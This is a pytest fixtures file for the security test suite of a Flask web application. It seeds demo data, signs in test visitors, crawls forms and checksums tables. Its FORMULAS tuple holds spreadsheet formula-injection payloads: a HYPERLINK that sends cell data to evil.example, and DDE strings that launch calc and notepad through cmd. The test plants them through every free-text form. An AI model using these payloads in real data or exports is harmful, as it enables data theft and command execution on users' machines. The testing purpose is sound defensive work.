"""Fixtures of the generated security suites: the portal with the demo data on
each backend (seeded once per module, since the suites change it), a client
per visitor, a fingerprint of every table, and the pages and forms a visitor
finds (crawled once per run on SQLite; the seed is deterministic, so the ids
are the same on PostgreSQL)."""

import hashlib
import shutil
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select

from tests.conftest import BACKENDS, base_config, postgres_url, reset_postgres
from tests.security.demo import VISITORS, Prepared, prepare, user_id_of
from tests.security.discovery import Site, crawl, post_rules
from tests.security.filling import fill, typed_fields
from toolbox import create_app
from toolbox.extensions import db


def post_endpoint_names() -> list[str]:
    """Every endpoint that takes POST, read from the URL map when tests are
    collected, so that each gets a test id of its own."""
    app = create_app({"TESTING": True, "SECRET_KEY": "x", "SQLALCHEMY_DATABASE_URI": "sqlite://"})
    return sorted({rule.endpoint for rule in post_rules(app)})


@dataclass(frozen=True)
class DemoSeed:
    path: Path
    prepared: Prepared


def demo_config(url: str, **extra) -> dict:
    return base_config(None) | {"SQLALCHEMY_DATABASE_URI": url} | extra


def make_app(url: str, instance: Path, **extra) -> Flask:
    app = create_app(demo_config(url, **extra))
    app.instance_path = str(instance)
    return app


def seed(app: Flask) -> Prepared:
    with app.app_context():
        db.create_all()
    result = app.test_cli_runner().invoke(args=["seed-demo"])
    assert result.exit_code == 0, result.output
    return prepare(app)


def close(app: Flask) -> None:
    with app.app_context():
        db.session.remove()
        db.engine.dispose()


@pytest.fixture(scope="session")
def demo_seed(tmp_path_factory) -> DemoSeed:
    """The demo data on SQLite, prepared; each module works on a copy."""
    folder = tmp_path_factory.mktemp("demo-seed")
    path = folder / "demo.db"
    app = make_app(f"sqlite:///{path}", folder / "instance")
    prepared = seed(app)
    close(app)
    return DemoSeed(path, prepared)


def open_demo_app(backend: str, folder: Path, demo_seed: DemoSeed, **extra) -> Flask:
    """A fresh copy of the prepared demo data on the backend."""
    if backend == "sqlite":
        path = folder / "demo.db"
        shutil.copy(demo_seed.path, path)
        return make_app(f"sqlite:///{path}", folder / "instance", **extra)
    app = make_app(postgres_url(), folder / "instance", **extra)
    reset_postgres(app)
    seed(app)
    return app


@pytest.fixture(scope="module", params=BACKENDS)
def demo_app(request, tmp_path_factory, demo_seed) -> Iterator[Flask]:
    """The demo organisation on SQLite and PostgreSQL, CSRF off (the
    suites that test CSRF switch it on)."""
    app = open_demo_app(request.param, tmp_path_factory.mktemp("demo"), demo_seed)
    yield app
    close(app)


@pytest.fixture(scope="session")
def sites(demo_seed, tmp_path_factory) -> dict[str, Site]:
    """What each visitor reaches by following links on the demo data."""
    folder = tmp_path_factory.mktemp("crawl")
    app = open_demo_app("sqlite", folder, demo_seed)
    found = {}
    for visitor in VISITORS:
        client = visitor_client(app, visitor, demo_seed.prepared)
        found[visitor] = crawl(app, client, visitor, demo_seed.prepared.start.get(visitor, ()))
    close(app)
    return found


@pytest.fixture(scope="session")
def site(sites) -> Site:
    """Every visitor's pages and forms together."""
    merged = Site()
    for found in sites.values():
        merged.visits += found.visits
        merged.forms += found.forms
    return merged


def visitor_client(app: Flask, visitor: str, prepared: Prepared) -> FlaskClient:
    """A test client signed in as the visitor's demo account, with the
    session values the prepared pages need."""
    client = app.test_client()
    sign_in(app, client, visitor, prepared)
    return client


def sign_in(app: Flask, client: FlaskClient, visitor: str, prepared: Prepared) -> None:
    user_id = user_id_of(app, visitor)
    with client.session_transaction() as session:
        session.clear()
        if user_id:
            session["_user_id"] = user_id
            session["_fresh"] = True
        session.update(prepared.session.get(visitor, {}))


def table_state(app: Flask) -> dict[str, tuple[int, str]]:
    """Row count and a checksum of every table: equal states, equal data."""
    state = {}
    with app.app_context():
        for table in db.metadata.sorted_tables:
            order = list(table.primary_key.columns) or list(table.columns)
            rows = db.session.execute(select(table).order_by(*order)).all()
            digest = hashlib.sha256(repr([tuple(row) for row in rows]).encode()).hexdigest()
            state[table.name] = (len(rows), digest)
        db.session.rollback()
    return state


def changed_tables(before: dict, after: dict) -> list[str]:
    return sorted(name for name in before if before[name] != after.get(name))


FORMULAS = (
    '=HYPERLINK("https://evil.example/?d="&A1;"Öppna")',
    "+SUM(1;1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
)
# Forms that end the session or need a secret the suite does not have.
SKIPPED = {"auth.logout", "auth.change_password", "auth.set_password", "auth.login"}


@pytest.fixture(scope="module")
def planted(demo_app, demo_seed, site) -> int:
    """Formulas saved through every form that takes free text; how many forms."""
    saved = 0
    for form in site.unique_forms():
        fields = typed_fields(form)
        if not fields or form.endpoint in SKIPPED:
            continue
        client = visitor_client(demo_app, form.role, demo_seed.prepared)
        values = {name: FORMULAS[i % len(FORMULAS)] for i, name in enumerate(fields)}
        filled = fill(client, form, values)
        assert filled.status < 500, f"{form.endpoint}: {filled.status}"
        saved += filled.saved and len(filled.refused) < len(fields)
    return saved
